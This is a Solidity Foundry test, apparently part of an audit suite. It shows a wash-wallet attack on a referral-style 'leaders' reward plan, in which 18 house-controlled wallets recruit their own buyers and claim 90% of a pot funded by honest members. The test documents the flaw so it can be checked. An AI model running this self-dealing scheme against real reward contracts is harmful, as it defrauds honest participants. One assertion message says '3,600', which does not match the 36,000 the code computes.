// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ILeaders} from "../../src/plans/leaders/ILeaders.sol";
import {LeadersBase} from "../plans/leaders/LeadersBase.sol";
import {Attack} from "./Attack.sol";

/// @title Who receives the treasury's part buys through its own wallets and draws what honest members put into the pot
/// @dev 18 wallets of the house lead three others of its own each; two honest leaders have customers who buy for 64,000.
contract LeadersWashAttack is LeadersBase, Attack {
    uint256 private constant OWN = 500e6;
    ILeaders private plan;
    uint256[] private pids;
    uint256 private next = 100;

    function test_theHousesWalletsDrawThePot() public {
        plan = newLeaders(EPOCH, 3, 3, 500, address(0));
        uint256[] memory washers = new uint256[](18);
        for (uint256 i; i < 18; ++i) {
            washers[i] = _team(OWN);
        }
        uint256 paid = 18 * 4 * OWN;
        uint256[] memory honest = new uint256[](2);
        honest[0] = _team(10_500e6);
        honest[1] = _team(10_500e6);
        vm.warp(block.timestamp + 1 days);
        plan.finalize(pids);
        uint256 back = paid * 9 / 10;
        vm.warp(START + EPOCH);
        for (uint256 i; i < 18; ++i) {
            plan.book(washers[i], 0);
        }
        plan.book(honest[0], 0);
        plan.book(honest[1], 0);
        vm.warp(START + 2 * EPOCH);
        uint256 drawn;
        for (uint256 i; i < 18; ++i) {
            vm.prank(wallet(next_[washers[i]]));
            plan.claim(washers[i], 0);
            drawn += earned(washers[i]);
        }
        took("M5.leaders", back + drawn > paid ? back + drawn - paid : 0);
        vm.assertEq(drawn, 9000e6, "90 % of the pot, for 3,600 that they put into it");
    }

    mapping(uint256 id => uint256) private next_;

    /// @dev A leader who buys for 500 and three direct customers who buy for `each`.
    function _team(uint256 each) private returns (uint256 leader) {
        leader = _buyer(2, OWN);
        for (uint256 i; i < 3; ++i) {
            _buyer(leader, each);
        }
    }

    function _buyer(uint256 sponsor, uint256 amount) private returns (uint256 id) {
        address who = wallet(++next);
        usdc.mint(who, amount);
        vm.startPrank(who);
        id = hub.join(sponsor, TERMS);
        next_[id] = next;
        usdc.approve(address(plan), amount);
        pids.push(plan.buy(amount));
        vm.stopPrank();
    }
}
